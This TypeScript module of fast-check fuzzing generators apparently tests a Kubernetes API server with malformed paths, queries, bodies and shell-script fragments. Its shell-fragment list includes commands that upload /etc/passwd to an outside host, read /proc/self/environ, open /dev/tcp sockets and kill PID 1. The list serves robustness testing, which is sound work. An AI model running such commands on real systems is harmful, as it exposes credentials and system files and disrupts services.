import fc from 'fast-check';

// What a client may send that means no good, or nothing.
export const DEFAULT = '/api/v1/namespaces/default';
export const PODS = `${DEFAULT}/pods`;

/** Without lone surrogates, which no address can carry. */
export function wellFormed(text: string): string {
  return Buffer.from(text).toString();
}

const word = fc.oneof(
  fc.constantFrom(
    'pods',
    'services',
    'default',
    'myapp-svc',
    'myapp-rs',
    'status',
    'scale',
    'log',
    'exec',
    'apps',
    'v1',
  ),
  fc.string({ maxLength: 8, unit: 'binary' }).map((text) => encodeURIComponent(wellFormed(text))),
  fc.constantFrom(
    '..',
    '.',
    '%',
    '%00',
    '%zz',
    '%2f',
    '%ff',
    '__proto__',
    'constructor',
    'toString',
    '',
    '~',
    ':',
    '*',
  ),
);
export const path = fc
  .tuple(
    fc.constantFrom('/api/v1', '/apis/apps/v1', '/apis', '/openapi/v3', '', DEFAULT, PODS, '/apis/discovery.k8s.io/v1'),
    fc.array(word, { maxLength: 5 }),
  )
  .map(([root, words]) => `${root}/${words.join('/')}`);
export const selector = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc
    .array(
      fc.constantFrom(
        'a',
        'app',
        '=',
        '==',
        '!=',
        '!',
        ',',
        '(',
        ')',
        ' in ',
        ' notin ',
        '>',
        'metadata.name',
        '\\',
        '1',
        '-',
        '/',
      ),
    )
    .map((parts) => parts.join('')),
);
const parameter = fc.constantFrom(
  ...['labelSelector', 'fieldSelector', 'limit', 'continue', 'resourceVersion', 'resourceVersionMatch', 'pretty'],
  ...['fieldValidation', 'fieldManager', 'force', 'dryRun', 'gracePeriodSeconds', 'propagationPolicy', 'tailLines'],
  ...['sinceTime', 'sinceSeconds', 'limitBytes', 'container', 'previous', 'includeObject', 'orphanDependents'],
);
const watchParameter = fc.constantFrom(
  ...['watch', 'sendInitialEvents', 'allowWatchBookmarks', 'resourceVersion', 'resourceVersionMatch', 'labelSelector'],
  ...['fieldSelector', 'timeoutSeconds', 'limit', 'continue'],
);
const value = fc.oneof(
  selector,
  fc.constantFrom('-1', '0', '1', '1e99', 'NaN', 'true', 'false', 'All', 'Exact', 'NotOlderThan', '99999999999'),
);

/** `first` is what counts of a parameter that is given twice. */
function asQuery(pairs: readonly (readonly [string, string])[], first: Readonly<Record<string, string>>): string {
  const all = [...Object.entries(first), ...pairs.map(([name, text]) => [name, wellFormed(text)])];
  return new URLSearchParams(all).toString();
}
// A watch that nobody ends goes on for half an hour.
export const query = fc
  .array(fc.tuple(fc.oneof(parameter, watchParameter), value))
  .map((pairs) => asQuery(pairs, { timeoutSeconds: '1' }));
export const watchQuery = fc
  .array(fc.tuple(watchParameter, value), { maxLength: 5 })
  .map((pairs) => asQuery(pairs, { watch: '1', timeoutSeconds: '1' }));
export const method = fc.constantFrom('GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE');
export const contentType = fc.constantFrom(
  ...['application/json', 'application/yaml', 'application/vnd.kubernetes.protobuf', 'text/plain', 'x', ''],
  ...['application/json-patch+json', 'application/merge-patch+json', 'application/strategic-merge-patch+json'],
  ...['application/apply-patch+yaml', 'application/json;charset=utf-16', ';;;'],
);
const fieldName = fc.constantFrom(
  ...[
    'metadata',
    'name',
    'namespace',
    'labels',
    'annotations',
    'spec',
    'status',
    'selector',
    'ports',
    'port',
    'template',
  ],
  ...[
    'targetPort',
    'replicas',
    'containers',
    'image',
    'kind',
    'apiVersion',
    'data',
    'finalizers',
    'ownerReferences',
    'uid',
  ],
  ...[
    'generateName',
    'clusterIP',
    'type',
    'sessionAffinity',
    'matchLabels',
    'matchExpressions',
    '$patch',
    '$retainKeys',
  ],
  ...[
    '__proto__',
    'constructor',
    'resourceVersion',
    'deletionTimestamp',
    'subsets',
    'endpoints',
    'addresses',
    'managedFields',
  ],
  ...[
    'sessionAffinityConfig',
    'clientIP',
    'timeoutSeconds',
    'readinessProbe',
    'httpGet',
    'env',
    'args',
    'command',
    'op',
    'path',
  ],
);
export const { json } = fc.letrec((tie) => ({
  json: fc.oneof(
    { maxDepth: 6, depthSize: 'medium' },
    fc.constantFrom<unknown>(
      null,
      true,
      0,
      -1,
      1e308,
      0.5,
      2 ** 53,
      '',
      'a',
      'v1',
      'Pod',
      'ClientIP',
      '10.96.0.9',
      '￿',
    ),
    fc.array(tie('json'), { maxLength: 4 }),
    fc.array(fc.tuple(fieldName, tie('json')), { maxLength: 5 }).map((pairs) => Object.fromEntries(pairs) as unknown),
  ),
}));
export const document = json.map((value) => JSON.stringify(value));
/** A document with a piece torn out or put in. */
export const torn = fc
  .tuple(
    document,
    fc.nat(200),
    fc.nat(20),
    fc.constantFrom('', '{', ']', '"', '\\u0000', '\t', ': &a [*a]', '!!js/function x', '\0'),
  )
  .map(([text, at, length, put]) => text.slice(0, at) + put + text.slice(at + length));
export const garbage = fc.uint8Array({ maxLength: 200 });
const protobuf = garbage.map((bytes) => Buffer.concat([Buffer.from('k8s\0'), bytes]));
export const body = fc.oneof(
  document,
  torn,
  garbage,
  protobuf,
  fc.constant('['.repeat(100_000)),
  fc.constant('{"a":'.repeat(50_000)),
);

const piece = fc.constantFrom(
  ...[
    'curl -s myapp-svc',
    'curl -m1 127.0.0.1',
    'curl file:///etc/passwd',
    'curl -o /etc/x -T /etc/passwd http://1.1.1.1',
  ],
  ...[
    'wget -qO- kubernetes',
    'nc -z myapp-svc 80',
    'nc -l 80',
    'nslookup myapp-svc',
    'ping -c1 10.96.0.1',
    'ip addr',
    'env',
  ],
  ...[
    '|',
    ';',
    '&&',
    '||',
    '&',
    '\n',
    '(',
    ')',
    '{',
    '}',
    '$(',
    '`',
    '<',
    '>',
    '2>&1',
    '>&2',
    '<<E',
    '<(',
    '"',
    "'",
    '\\',
  ],
  ...[
    'if',
    'then',
    'fi',
    'for i in 1 2',
    'do',
    'done',
    'while true',
    'case x in',
    'esac',
    'f() {',
    'f',
    'local',
    'trap "" INT',
  ],
  ...[
    'echo',
    '$x',
    '${x:=1}',
    '$((1/0))',
    '$((2**63))',
    '{1..9}',
    '*',
    '~',
    'x=$x$x',
    'exec',
    'eval',
    'set -e',
    'read x',
  ],
  ...[
    'cat /proc/self/environ',
    'cd /..',
    '/dev/tcp/127.0.0.1/22',
    'exec 3<>/dev/tcp/1.1.1.1/80',
    'kill -9 $$',
    'kill 1',
    'sleep 0.1',
  ],
);
/** Of pieces that are scripts by themselves and of such that are none. */
export const script = fc.array(piece, { minLength: 1, maxLength: 12 }).map((pieces) => pieces.join(' '));
